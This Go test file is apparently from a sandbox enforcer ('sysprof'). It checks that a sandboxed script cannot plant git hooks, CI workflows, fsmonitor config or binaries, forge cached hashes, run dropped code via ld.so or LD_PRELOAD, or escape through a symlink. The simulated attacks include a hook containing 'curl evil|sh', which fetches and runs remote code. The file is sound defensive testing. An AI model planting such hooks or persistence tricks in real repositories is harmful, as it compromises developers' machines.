package enforcer

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/elastic/go-seccomp-bpf/arch"

	"github.com/sysprof/sysprof/internal/testutil"
	"github.com/sysprof/sysprof/policy"
	"github.com/sysprof/sysprof/report"
)

// Writable means exactly what was learned (issue 14 items 3, 4, 7), as root and as an ordinary
// user, each attack next to a benign write that must still land:
//   - fresh checkout: the learned build/ does not exist yet and out.txt is a file at the top of
//     the tree; a hook, a workflow, a source edit and a .git/config change are held (changeset) and
//     reported while build/x and out.txt reach the host;
//   - a writable work tree keeps .git and .sysprof out of reach (staged);
//   - a writable $HOME/.cache keeps $HOME/.cache/sysprof read-only (a read-only bind);
//   - a writable directory swapped for a symlink to $HOME is refused;
//   - `ld.so ./evil` and LD_PRELOAD of a file written in a writable directory without learned
//     exec fail, while ld.so on a system binary works.
func TestWritesMeanExactlyWhatWasLearned(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTool(t, "git")
	t.Run("root", func(t *testing.T) {
		work, home := writesTree(t, false)
		if err := writesChecks(work, home); err != nil {
			t.Error(err)
		}
	})
	t.Run("ordinary user", func(t *testing.T) {
		work, home := writesTree(t, true)
		asNobodyEnv(t, "writes", filepath.Dir(work), work, "HOME="+home)
	})
}

func init() {
	nobodyHelpers["writes"] = func(_, work string) error { return writesChecks(work, os.Getenv("HOME")) }
}

// asNobodyEnv runs nobodyHelpers[helper] in a copy of the test binary as nobody.
func asNobodyEnv(t *testing.T, helper, dir, work string, env ...string) {
	t.Helper()
	self, _ := os.Executable()
	bin := filepath.Join(dir, "enforcer.test")
	if err := copyFile(self, bin, 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin)
	cmd.Env = append(append(os.Environ(), nobodyEnv+"="+helper, "SYSPROF_TEST_WORK="+work), env...)
	cmd.Dir = work
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("as nobody: %v\n%s", err, out)
	}
}

// writesTree makes a git work tree (src.txt committed, an existing outdir/) and a home with
// .cache/sysprof in a 0755 directory, owned by nobody when asked.
func writesTree(t *testing.T, nobody bool) (work, home string) {
	t.Helper()
	dir, err := os.MkdirTemp("", "sysprof-writes-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	work, home = filepath.Join(dir, "work"), filepath.Join(dir, "home")
	for _, d := range []string{filepath.Join(work, "outdir"), filepath.Join(home, ".cache", "sysprof"), filepath.Join(home, "target"), filepath.Join(home, ".local", "bin"), filepath.Join(home, ".local", "share", "systemd"), filepath.Join(home, ".local", "share", "applications")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(work, "src.txt"), []byte("benign\n"), 0o644)
	os.WriteFile(filepath.Join(home, ".cache", "sysprof", "binhash"), []byte("trusted\n"), 0o644)
	cmd := exec.Command("sh", "-c", "git init -q && git add src.txt && git -c user.name=t -c user.email=t@t.invalid commit -qm init")
	cmd.Dir = work
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home, "GIT_CONFIG_NOSYSTEM=1"}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git: %v %s", err, out)
	}
	if nobody {
		if out, err := exec.Command("chown", "-R", "65534:65534", dir).CombinedOutput(); err != nil {
			t.Fatalf("chown: %v %s", err, out)
		}
	}
	return work, home
}

// unprivilegedProfile allows every x86_64 syscall that is not privileged: tests of the other
// layers use it so that seccomp stays out of their way.
func unprivilegedProfile() *policy.Profile {
	p := &policy.Profile{APIVersion: policy.APIVersion, Kind: policy.Kind}
	for _, name := range slices.Sorted(maps.Keys(arch.X86_64.SyscallNames)) {
		if policy.PrivilegedSyscall(name) == "" {
			p.Syscalls.Allow = append(p.Syscalls.Allow, policy.Syscall{Name: name})
		}
	}
	return p
}

// rules makes path rules of paths.
func rules(paths ...string) (out []policy.PathRule) {
	for _, p := range paths {
		out = append(out, policy.PathRule{Path: p})
	}
	return out
}

func writesProfile(write ...string) *policy.Profile {
	p := unprivilegedProfile()
	p.Filesystem = policy.Filesystem{
		Read:  rules("/usr", "/etc", "/proc", "/lib", "/lib64", "/bin", "$WORKDIR", "$HOME"),
		Write: rules(append(write, "/dev/null")...),
		Exec:  rules("/usr/bin", "/bin", "/usr/lib", "/lib", "/lib64"),
	}
	return p
}

// runScript enforces p on `sh -c script` in work and returns the report, exit code and output.
func runScript(p *policy.Profile, work, home, script string) (*report.Report, int, string, error) {
	var out strings.Builder
	rep, code, err := Run(context.Background(), Options{Profile: p, Command: []string{"/bin/sh", "-c", script}, Dir: work,
		Env: []string{"PATH=/usr/bin:/bin", "HOME=" + home}, Stdout: &out, Stderr: &out})
	return rep, code, out.String(), err
}

// deniedWrite reports whether rep reports path: a file denial, or a change held for review.
func deniedWrite(rep *report.Report, path string) bool {
	if rep == nil {
		return false
	}
	if rep.Changes != nil && slices.ContainsFunc(rep.Changes.Held, func(h report.Change) bool { return h.Path == path }) {
		return true
	}
	return slices.ContainsFunc(rep.Denials, func(d report.Denial) bool { return d.Kind == report.KindFile && d.Path == path })
}

func writesChecks(work, home string) error {
	var errs []error
	fail := func(format string, a ...any) { errs = append(errs, fmt.Errorf(format, a...)) }
	exists := func(p string) bool { _, err := os.Lstat(p); return err == nil }
	read := func(p string) string { b, _ := os.ReadFile(p); return string(b) }
	gitConfig := read(filepath.Join(work, ".git", "config"))

	// A fresh checkout: build/ is missing, out.txt is a file at the top of the tree.
	p := writesProfile("$WORKDIR/build", "$WORKDIR/out.txt")
	rep, code, out, err := runScript(p, work, home, `set -e
mkdir -p build; echo ok > build/x; echo ok > out.txt
echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
mkdir -p .github/workflows; echo 'on: push' > .github/workflows/evil.yml
echo '[core]fsmonitor = evil' >> .git/config
echo hacked > src.txt
echo done`)
	switch {
	case err != nil || code != 0 || !strings.Contains(out, "done"):
		fail("fresh checkout: exit %d, err %v: the attacks must seem to succeed inside (they are staged)\n%s", code, err, out)
	case read(filepath.Join(work, "build", "x")) != "ok\n" || read(filepath.Join(work, "out.txt")) != "ok\n":
		fail("fresh checkout: the learned outputs build/x and out.txt did not reach the host")
	}
	if exists(filepath.Join(work, ".git", "hooks", "pre-commit")) || exists(filepath.Join(work, ".github")) {
		fail("fresh checkout: a hook or a workflow was planted in the work tree")
	}
	if read(filepath.Join(work, "src.txt")) != "benign\n" || read(filepath.Join(work, ".git", "config")) != gitConfig {
		fail("fresh checkout: a source file or .git/config was changed")
	}
	for _, d := range []string{".git/hooks/pre-commit", ".github", "src.txt", ".git/config"} {
		if !deniedWrite(rep, filepath.Join(work, d)) {
			fail("fresh checkout: the write of %s is not reported: %+v", d, rep.Denials)
		}
	}

	// The whole work tree writable: protected paths in it still are not.
	p = writesProfile("$WORKDIR")
	rep, code, out, err = runScript(p, work, home, `echo ok > notes.txt; mkdir -p .sysprof; echo x > .sysprof/p.yaml; echo x > .git/hooks/post-checkout; echo done`)
	if err != nil || code != 0 || read(filepath.Join(work, "notes.txt")) != "ok\n" {
		fail("writable work tree: exit %d, err %v, notes.txt %q\n%s", code, err, read(filepath.Join(work, "notes.txt")), out)
	}
	if exists(filepath.Join(work, ".sysprof")) || exists(filepath.Join(work, ".git", "hooks", "post-checkout")) ||
		!deniedWrite(rep, filepath.Join(work, ".sysprof")) || !deniedWrite(rep, filepath.Join(work, ".git", "hooks", "post-checkout")) {
		fail("writable work tree: .sysprof or a hook was written, or not reported: %+v", rep.Denials)
	}

	// Naming one path below .git (git's index) grants that path, not all of .git: a hook
	// beside it is still held and reported.
	p = writesProfile("$WORKDIR", "$WORKDIR/.git/index")
	rep, code, out, err = runScript(p, work, home, `echo ok > notes2.txt; cp .git/index .git/index.new && mv .git/index.new .git/index; echo x > .git/hooks/pre-push; echo done`)
	if err != nil || code != 0 || read(filepath.Join(work, "notes2.txt")) != "ok\n" {
		fail("work tree + .git/index: exit %d, err %v\n%s", code, err, out)
	}
	if exists(filepath.Join(work, ".git", "hooks", "pre-push")) || !deniedWrite(rep, filepath.Join(work, ".git", "hooks", "pre-push")) {
		fail("work tree + .git/index: a hook beside the named index was written, or not reported: %+v", rep.Denials)
	}

	// A writable $HOME/.local: the protected $HOME/.local/bin in it stays read-only (a
	// read-only bind: it exists, as do the user units' .local/share/systemd and sysprof's run
	// state, the other protected paths below .local, once sysprof has run; were one missing,
	// .local would be staged instead).
	if err := os.MkdirAll(filepath.Join(home, ".local", "state", "sysprof"), 0o755); err != nil {
		return err
	}
	p = writesProfile("$HOME/.local")
	_, code, out, err = runScript(p, work, home, `echo ok > "$HOME/.local/state.db"; echo evil > "$HOME/.local/bin/ls" && echo planted; true`)
	if err != nil || code != 0 || read(filepath.Join(home, ".local", "state.db")) != "ok\n" {
		fail("writable .local: exit %d, err %v\n%s", code, err, out)
	}
	if exists(filepath.Join(home, ".local", "bin", "ls")) || strings.Contains(out, "planted") {
		fail("writable .local: a binary was planted in $HOME/.local/bin\n%s", out)
	}

	// A writable $HOME/.cache: sysprof's own cache in it stays read-only.
	p = writesProfile("$HOME/.cache")
	_, code, out, err = runScript(p, work, home, `echo ok > "$HOME/.cache/tool.db"; echo forged > "$HOME/.cache/sysprof/binhash" && echo forged-ok; true`)
	if err != nil || code != 0 || read(filepath.Join(home, ".cache", "tool.db")) != "ok\n" {
		fail("writable cache: exit %d, err %v\n%s", code, err, out)
	}
	if read(filepath.Join(home, ".cache", "sysprof", "binhash")) != "trusted\n" || strings.Contains(out, "forged-ok") {
		fail("writable cache: $HOME/.cache/sysprof/binhash was overwritten\n%s", out)
	}

	// Unlearned code from a writable directory without exec rules.
	ld, _ := filepath.EvalSymlinks("/lib64/ld-linux-x86-64.so.2")
	libm, _ := filepath.EvalSymlinks("/lib/x86_64-linux-gnu/libm.so.6")
	p = writesProfile("$WORKDIR/outdir")
	rep, code, out, err = runScript(p, work, home, fmt.Sprintf(`cp /bin/true outdir/evil; cp %s outdir/evil.so
%s /bin/true && echo control-ok
%s ./outdir/evil && echo evil-ran
LD_PRELOAD=$PWD/outdir/evil.so /bin/true 2>&1 | grep -q 'cannot be preloaded' && echo preload-refused
true`, libm, ld, ld))
	if err != nil || code != 0 || !strings.Contains(out, "control-ok") {
		fail("noexec: the control (ld.so /bin/true) failed: exit %d, err %v\n%s", code, err, out)
	}
	if strings.Contains(out, "evil-ran") || !strings.Contains(out, "preload-refused") {
		fail("noexec: a file written in outdir/ ran or was preloaded\n%s", out)
	}
	// As root the guard reports the refused executable mappings (the ordinary user's file
	// denials are not observable).
	if os.Geteuid() == 0 {
		for _, f := range []string{"outdir/evil", "outdir/evil.so"} {
			if !slices.ContainsFunc(rep.Denials, func(d report.Denial) bool {
				return d.Kind == report.KindFile && d.Path == filepath.Join(work, f) && d.Access == "exec" && d.Syscall == "mmap"
			}) {
				fail("noexec: the refused mapping of %s is not reported: %+v", f, rep.Denials)
			}
		}
	}

	// A writable directory swapped for a symlink to $HOME/target is refused, not followed.
	if err := os.RemoveAll(filepath.Join(work, "outdir")); err != nil {
		return err
	}
	if err := os.Symlink(filepath.Join(home, "target"), filepath.Join(work, "outdir")); err != nil {
		return err
	}
	_, code, out, err = runScript(p, work, home, `echo x > outdir/planted`)
	if err == nil || code != 125 || !strings.Contains(err.Error(), "symlink") {
		fail("symlinked writable dir: exit %d, err %v: want a refusal naming the symlink\n%s", code, err, out)
	}
	if exists(filepath.Join(home, "target", "planted")) {
		fail("symlinked writable dir: its target was written")
	}
	// The same for a file rule below it: the directory that would be staged is a symlink.
	p = writesProfile("$WORKDIR/outdir/x.o")
	_, code, out, err = runScript(p, work, home, `echo x > outdir/x.o`)
	if err == nil || code != 125 || !strings.Contains(err.Error(), "symlink") || exists(filepath.Join(home, "target", "x.o")) {
		fail("file rule below a symlinked dir: exit %d, err %v: want a refusal naming the symlink\n%s", code, err, out)
	}
	return errors.Join(errs...)
}

// sysprof's own files (the profile a run enforces, the run reports directory) are protected for
// that run, and the file a link to one names: a run must not rewrite the profile of its next
// run. Not in a private tmp directory, where the command cannot reach them.
func TestProfileIsProtected(t *testing.T) {
	dir, err := os.MkdirTemp("/var/cache", "sysprof-own-") // outside the private tmp directories
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	real := filepath.Join(dir, "real.yaml")
	link := filepath.Join(dir, "link.yaml")
	if err := os.WriteFile(real, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(real, link); err != nil {
		t.Fatal(err)
	}
	env := Env{Vars: map[string]string{"HOME": "/nonexistent-home", "WORKDIR": "/nonexistent-work"}, Own: []string{link}}
	got := protectedHostPaths(env)
	if !slices.Contains(got, link) || !slices.Contains(got, real) {
		t.Errorf("protected paths %v: want the profile %s and the file it links to", got, link)
	}
	env.Own = nil
	if slices.Contains(protectedHostPaths(env), real) {
		t.Errorf("a run without a profile file protects one")
	}
	// Behind the private /tmp the command cannot reach the host's file: no cover shows it there.
	env.Own = []string{"/tmp/x/profile.yaml"}
	if slices.Contains(protectedHostPaths(env), "/tmp/x/profile.yaml") {
		t.Errorf("a profile in /tmp is covered inside the private /tmp")
	}
}
